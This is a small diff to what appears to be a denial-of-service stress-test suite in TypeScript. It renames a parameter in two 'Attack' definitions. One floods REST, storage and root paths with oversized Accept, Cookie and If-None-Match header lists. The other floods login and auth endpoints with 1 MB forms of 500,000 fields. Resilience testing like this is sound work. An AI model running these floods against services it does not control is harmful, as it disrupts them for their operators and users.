@@ -11,7 +11,7 @@ export const headerLists: Attack = {
   description:
     'Accept, Accept-Language, Prefer, Cookie and If-None-Match with up to 30,000 items, 50 at once',
   cost: 'event loop: splitting and comparing lists',
-  run: (at) => {
+  run: (context) => {
     const list = (item: string) => item.repeat(HEADER_BYTES / item.length);
     const rest = '/rest/v1/abuse_big?select=id&limit=1';
     const requests = [
@@ -22,11 +22,11 @@ export const headerLists: Attack = {
       ['/', { cookie: list('a=b; ') }],
       ['/storage/v1/object/public/pictures/large.png', { 'if-none-match': list('"a",'), range: 'bytes=0-0' }],
     ] as const;
-    return flood(at, {
+    return flood(context, {
       sockets: 50,
       request: (index) => {
         const [path, headers] = requests[index % requests.length] ?? requests[0];
-        return { path, headers: { apikey: at.anonKey, ...headers } };
+        return { path, headers: { apikey: context.anonKey, ...headers } };
       },
     });
   },
@@ -38,14 +38,14 @@ export const wideForms: Attack = {
   description:
     'forms of 1 MB with 500,000 fields to the sign-in page and the authentication service, 4 at once',
   cost: 'event loop: parsing fields',
-  run: (at) => {
+  run: (context) => {
     const paths = ['/login', '/auth/v1/oauth/token', '/auth/v1/sso/saml/acs', '/auth/v1/callback'];
     const headers = {
       origin: 'https://greenroom.example',
       'content-type': 'application/x-www-form-urlencoded',
     };
     const body = 'a&'.repeat(FORM_BYTES / 2);
-    return flood(at, {
+    return flood(context, {
       sockets: 4,
       request: (index) => ({ path: paths[index % paths.length] ?? '', headers, body }),
     });
